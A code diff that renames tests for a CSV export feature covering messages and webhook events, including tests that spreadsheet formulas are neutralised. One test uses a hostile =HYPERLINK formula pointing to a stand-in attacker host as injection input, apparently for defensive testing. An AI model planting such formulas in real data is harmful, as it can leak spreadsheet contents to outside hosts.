@@ -47,7 +47,7 @@ def rows_of(client: Client, model: str, **query: Any) -> list[dict[str, str]]:
     return list(csv.DictReader(StringIO(file_of(client, model, **query).removeprefix("\ufeff"))))
 
 
-def test_messages_are_exported_with_all_that_is_known(exporter: Client) -> None:
+def test_message_row_has_every_column(exporter: Client) -> None:
     message = MessageFactory.create(
         cellcast_id=ID,
         receiver=CUSTOMER,
@@ -84,7 +84,7 @@ def test_messages_are_exported_with_all_that_is_known(exporter: Client) -> None:
     }
 
 
-def test_events_are_exported_with_what_became_of_them(exporter: Client) -> None:
+def test_event_row_has_outcome_state_and_failing_handlers(exporter: Client) -> None:
     failed = WebhookEventFactory.create(failed=True)
     invalid = WebhookEventFactory.create(invalid=True)
 
@@ -98,7 +98,7 @@ def test_events_are_exported_with_what_became_of_them(exporter: Client) -> None:
     assert (last["state"], last["done_at"]) == ("", "")
 
 
-def test_file_is_one_that_spreadsheets_open(exporter: Client) -> None:
+def test_file_opens_in_spreadsheets(exporter: Client) -> None:
     MessageFactory.create(body="نعم 😀")
 
     response: Any = exporter.get(url_of("message", "export"))
@@ -120,7 +120,7 @@ def test_site_without_time_zones_can_export(exporter: Client, settings: Any) -> 
     assert "messages-20" in response["Content-Disposition"]
 
 
-def test_link_on_the_list_keeps_filters_and_search_but_no_page(exporter: Client) -> None:
+def test_export_link_keeps_filters_and_search_but_not_the_page(exporter: Client) -> None:
     page = page_of(exporter, "message", direction="inbound", q="0400 000 001", p=1)
 
     url = url_of("message", "export", direction="inbound", q="0400 000 001")
@@ -142,7 +142,7 @@ def test_link_on_the_list_keeps_filters_and_search_but_no_page(exporter: Client)
         ("webhookevent", {"outcome": "pending"}),
     ],
 )
-def test_file_has_all_rows_of_the_list_in_its_order(
+def test_file_has_every_listed_row_in_list_order(
     exporter: Client, model: str, query: dict[str, Any]
 ) -> None:
     fill(CHUNK_SIZE + 1)
@@ -156,7 +156,7 @@ def test_file_has_all_rows_of_the_list_in_its_order(
     assert exported[-len(last_page) :] == last_page
 
 
-def test_rows_of_the_same_moment_are_neither_lost_nor_repeated(
+def test_export_neither_skips_nor_repeats_simultaneous_rows(
     exporter: Client,
 ) -> None:
     message = MessageFactory.create()
@@ -232,11 +232,11 @@ def test_formula_is_exported_as_text(text: str) -> None:
 
 
 @pytest.mark.parametrize("text", ["", "YES", "1+1=2", "+61400000000", "0400 000 000", "'", "a=b"])
-def test_harmless_text_stays_as_it_is(text: str) -> None:
+def test_harmless_text_is_unchanged(text: str) -> None:
     assert harmless(text) == text
 
 
-def test_formula_of_a_customer_arrives_as_a_text(exporter: Client, client: WebhookClient) -> None:
+def test_customers_formula_is_exported_as_text(exporter: Client, client: WebhookClient) -> None:
     client.reply(message='=HYPERLINK("https://evil.example?"&A1,"Yes")', sender="=1+1")
 
     [row] = rows_of(exporter, "message")
